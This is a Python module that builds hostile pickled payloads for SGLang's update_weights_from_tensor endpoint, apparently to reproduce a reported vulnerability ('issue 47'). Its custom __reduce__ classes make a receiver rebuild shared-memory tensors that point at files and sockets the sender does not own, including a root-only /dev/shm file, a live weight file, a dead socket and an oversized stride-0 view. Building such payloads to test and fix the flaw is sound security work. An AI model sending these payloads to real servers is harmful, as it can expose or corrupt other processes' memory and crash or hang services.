"""Hostile ``update_weights_from_tensor`` payloads of issue 47, built as the prober built them.

SGLang's ``MultiprocessingSerializer`` pickles tensors as handles: a torch shared-memory
manager's socket and a shared-memory file name (``file_system`` strategy). These payloads
name things the sender does not own: a root-only file of /dev/shm, the arena's live weight
file, a Unix socket that never answers, a stride-0 view describing 1 GiB over 4 bytes.
"""

from __future__ import annotations

import base64
import pickle

import torch
import torch.multiprocessing as mp
from torch.multiprocessing.reductions import (
    rebuild_storage_filename,
    rebuild_tensor,
    rebuild_typed_storage,
    reduce_storage,
)

_KEEP: list = []  # the shared tensor whose manager the payloads name stays alive


def shared_file() -> tuple[bytes, bytes]:
    """A live torch shared-memory manager's socket and the name of a 4-byte shared-memory
    file it tracks (this process shares a tensor, as a sender would)."""
    old = mp.get_sharing_strategy()
    mp.set_sharing_strategy("file_system")
    try:
        t = torch.zeros(1).share_memory_()
        _KEEP.append(t)
        _fn, args = reduce_storage(t.untyped_storage())
    finally:
        mp.set_sharing_strategy(old)
    return args[1], args[2]


class _Storage:
    def __init__(self, manager: bytes, handle: bytes, nbytes: int) -> None:
        self.args = (torch.UntypedStorage, manager, handle, nbytes)

    def __reduce__(self):
        return (rebuild_storage_filename, self.args)


class _Typed:
    def __init__(self, storage: _Storage) -> None:
        self.storage = storage

    def __reduce__(self):
        return (rebuild_typed_storage, (self.storage, torch.float32))


class _Tensor:
    def __init__(self, storage: _Storage, shape: tuple, stride: tuple) -> None:
        self.args = (torch.Tensor, _Typed(storage), (0, shape, stride, False))

    def __reduce__(self):
        return (rebuild_tensor, self.args)


def named_handle(name: str, manager: bytes, handle: bytes, nbytes: int, shape: tuple, stride: tuple) -> str:
    """base64 of ``[(name, tensor)]`` whose tensor is the shared-memory file ``handle``
    (a name under /dev/shm, with its leading slash) of ``nbytes``, viewed as float32 ``shape``/``stride``
    (the structure ``ForkingPickler`` writes)."""
    raw = pickle.dumps([(name, _Tensor(_Storage(manager, handle, nbytes), shape, stride))])
    return base64.b64encode(raw).decode()
